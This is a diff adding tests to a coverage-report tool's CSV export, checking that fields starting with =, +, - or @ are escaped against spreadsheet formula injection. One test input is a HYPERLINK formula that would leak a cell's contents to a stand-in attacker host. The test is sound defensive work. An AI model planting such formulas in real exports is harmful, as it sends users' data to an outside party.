@@ -1,6 +1,6 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { computeCoverage, CSV_COLUMNS, type CoverageReport, formatReport, percent, toCsv, toJson, toMarkdown } from '../../scripts/coverage/index.ts';
+import { computeCoverage, CSV_COLUMNS, csvRecords, type CoverageReport, formatReport, percent, toCsv, toJson, toMarkdown } from '../../scripts/coverage/index.ts';
 import { FIXTURE } from './fixture.ts';
 
 const report = computeCoverage(FIXTURE, ['Sysmon:1', 'Security:4688']);
@@ -67,6 +67,23 @@ describe('CSV', () => {
     const r: CoverageReport = { ...report, seen: [{ ...report.seen[0]!, name: 'Say "hi", then go' }] };
     const back = Papa.parse<Record<string, string>>(toCsv(r), { header: true, skipEmptyLines: true });
     expect(back.data.find((x) => x.section === 'technique' && x.id === report.seen[0]!.id)?.name).toBe('Say "hi", then go');
+  });
+});
+
+describe('CSV formulas', () => {
+  it('writes a name that starts with = + - @ as text: a leading quote, as papaparse’s escapeFormulae does', () => {
+    const evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1', '-2', '@x'];
+    const r: CoverageReport = { ...report, seen: evil.map((name, i) => ({ ...report.seen[0]!, id: `T900${i}`, name })) };
+    const csv = toCsv(r);
+    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"');
+    expect(csv).toContain(',"\'+1",');
+    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
+    const back = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
+    expect(back.data.filter((x) => x.section === 'technique' && x.id?.startsWith('T900')).map((x) => x.name)).toEqual(evil.map((n) => `'${n}`));
+  });
+
+  it('leaves the fixture’s CSV as papaparse wrote it before (no field starts with a formula character)', () => {
+    expect(toCsv(report)).toBe(`${Papa.unparse(csvRecords(report), { columns: [...CSV_COLUMNS], newline: '\n' })}\n`);
   });
 });
 
